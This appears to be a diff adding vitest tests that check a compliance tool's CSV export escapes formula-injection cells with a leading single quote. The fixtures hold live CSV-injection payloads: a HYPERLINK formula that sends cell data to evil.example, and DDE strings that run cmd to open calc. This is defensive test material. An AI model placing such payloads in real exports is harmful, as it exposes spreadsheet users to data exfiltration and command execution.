@@ -3,9 +3,11 @@
 // references, and the manifest check on packages made by hand.
 import { generateKeyPairSync, sign } from 'node:crypto';
 import { describe, expect, it } from 'vitest';
+import { parse } from 'csv-parse/sync';
+import { csvParts } from '../lib/domain/export/csv.ts';
 import { MANIFEST_PATH, manifestFile, signingInput, unsignedManifest, verifyPackage, type Manifest } from '../lib/domain/export/manifest.ts';
 import { oscalString, uriReference } from '../lib/domain/export/oscal.ts';
-import { auditOfPeriod, evidenceOfPeriod, gapsOfPeriod } from '../lib/domain/export/package.ts';
+import { auditOfPeriod, evidenceOfPeriod, gapsOfPeriod, type PackageContent } from '../lib/domain/export/package.ts';
 import { inWindow, parsePeriod, periodWindow, startOfLocalDay } from '../lib/domain/export/period.ts';
 import { uuidV5 } from '../lib/domain/export/uuid.ts';
 import type { Gap } from '../lib/domain/gaps/gap.ts';
@@ -109,6 +111,73 @@ describe('what counts in a period', () => {
   it('audit entries stamped in [start, end), in time order', () => {
     const at = ['2026-12-31T16:00:00.000Z', '2026-10-05T00:00:00.000Z', '2026-09-30T16:00:00.000Z', '2026-09-30T15:59:59.999Z'];
     expect(auditOfPeriod(at.map((a) => ({ at: a })), w).map((e) => e.at)).toEqual(['2026-09-30T16:00:00.000Z', '2026-10-05T00:00:00.000Z']);
+  });
+});
+
+describe('the CSV parts, opened in a spreadsheet', () => {
+  const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")';
+  const DDE = "=cmd|' /C calc'!A0";
+  const w = periodWindow('2026-Q4', 'Asia/Hong_Kong');
+  const content = {
+    org: { id: 'acme', name: 'Acme', timeZone: 'Asia/Hong_Kong' },
+    window: w,
+    generatedAt: '2026-11-30T09:00:00.000Z',
+    asOf: '2026-11-30',
+    people: [],
+    soa: [{ id: 'A.5.1', title: 'Policies', theme: 'organizational', applicable: false, justification: '+852 2345 6789 handles it', evidenceStatus: 'current' }],
+    review: {
+      review: { id: '2026-Q4', status: 'open', openedAt: '2026-11-30T01:00:00.000Z', openedBy: 'x', due: '2026-12-30', deadline: '2026-12-31', summary: {} },
+      tasks: [
+        {
+          id: '2026-Q4/A.5.1',
+          control: 'A.5.1',
+          controlTitle: 'Policies',
+          owner: 'ada',
+          reviewer: 'bo',
+          due: '2026-12-30',
+          status: 'answered',
+          result: 'effective',
+          comment: HYPERLINK,
+          reviewComment: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+          evidenceStatusAtOpening: 'current',
+          evidence: [{ id: 'ev-1', origin: 'api', title: DDE, location: 's3://b/k' }],
+        },
+      ],
+      nonconformities: [{ id: 'NC-1', control: 'A.5.1', openedIn: '2026-Q3', status: 'open', reason: '-1+1' }],
+    },
+    evidence: [
+      { id: 'ev-1', control: 'A.5.1', title: DDE, kind: '\t=1+1', owner: 'ada', origin: 'api', location: '\r=1+1', collected: '2026-11-01', status: 'current', retired: false },
+      { id: 'ev-2', control: 'A.5.1', title: '-42', kind: 'report', owner: 'ada', origin: 'api', location: 's3://b/ok', collected: '2026-11-01', status: 'current', retired: false },
+    ],
+    gaps: { gaps: [{ id: 'g-1', rule: 'r', subject: { kind: 'source', id: '=1+2' }, status: 'open', severity: 'high', requirements: [], owner: 'ada', remedy: '+fix it', openedAt: '2026-11-01T00:00:00.000Z', reopened: 0 }] },
+    dataMap: {
+      scanId: 's1',
+      scannedAt: '2026-11-01T00:00:00.000Z',
+      sources: [{ id: '@source', platform: 'p', status: 'scanned', rating: 'red', reasons: ['=bad'], distinctPeople: -3, findings: {}, groups: { red: 0, amber: 0, green: 0 }, flows: [] }],
+    },
+    audit: [{ orgId: 'acme', at: '2026-11-30T01:00:00.000Z', event: 'task.answered', subject: 'TASK#x', actor: '=evil', detail: { comment: HYPERLINK }, key: 'k', hash: 'h' }],
+    auditHead: { seq: 1, hash: null },
+  } as unknown as PackageContent;
+  const files = csvParts(content);
+  const rows = (name: string) => parse((files.find((f) => f.path === name)?.content as Buffer).toString('utf8'), { bom: true, columns: true }) as Record<string, string>[];
+
+  it('prefixes with a single quote every text cell that starts with =, +, -, @, a tab or a carriage return, so it is read as text, not a formula; numbers stay numbers', () => {
+    expect(rows('review.csv')[0]).toMatchObject({ comment: `'${HYPERLINK}`, 'decision comment': "'@SUM(1+1)*cmd|' /C calc'!A0" });
+    // The evidence cell starts with the item's id: a formula inside it is not at the cell's start.
+    expect(rows('review.csv')[0]?.evidence).toBe(`ev-1: ${DDE} <s3://b/k>`);
+    expect(rows('evidence.csv')[0]).toMatchObject({ title: `'${DDE}`, kind: "'\t=1+1", location: "'\r=1+1" });
+    expect(rows('soa.csv')[0]?.justification).toBe("'+852 2345 6789 handles it");
+    expect(rows('nonconformities.csv')[0]?.reason).toBe("'-1+1");
+    expect(rows('gaps.csv')[0]).toMatchObject({ subject: "'=1+2", remedy: "'+fix it" });
+    expect(rows('datamap.csv')[0]).toMatchObject({ source: "'@source", reasons: "'=bad" });
+    expect(rows('audit.csv')[0]?.actor).toBe("'=evil");
+    // Text that only looks like a number is text: it keeps what was typed.
+    expect(rows('evidence.csv')[1]?.title).toBe("'-42");
+    // Numbers stay numbers (a number is no formula); every other cell is as it was.
+    expect(rows('datamap.csv')[0]?.['distinct people']).toBe('-3');
+    expect(rows('gaps.csv')[0]?.reopened).toBe('0');
+    expect(rows('evidence.csv')[1]).toMatchObject({ evidence: 'ev-2', location: 's3://b/ok', collected: '2026-11-01' });
+    expect(rows('audit.csv')[0]?.detail).toBe(JSON.stringify({ comment: HYPERLINK }));
   });
 });
 
